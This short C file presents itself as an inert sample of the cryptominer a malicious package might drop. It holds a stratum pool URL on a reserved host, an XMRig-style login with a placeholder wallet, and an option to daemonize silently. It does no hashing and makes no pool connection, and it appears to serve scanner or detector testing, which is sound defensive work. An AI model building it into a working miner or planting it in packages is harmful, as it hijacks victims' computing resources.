/* What a package would drop beside its scripts: a program that would mine. Inert: a reserved host, no hashing, never run. */
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const char *const pool = "stratum+tcp://pool.hashworks.invalid:3333";
static const char *const login = "{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\n";

int main(int argc, char **argv)
{
    struct hostent *there = gethostbyname("pool.hashworks.invalid");
    if (argc > 1 && strcmp(argv[1], "--daemon") == 0)
        (void)!daemon(0, 0);
    if (!there) {
        fprintf(stderr, "no %s\n", pool);
        return 1;
    }
    return write(1, login, strlen(login)) < 0;
}
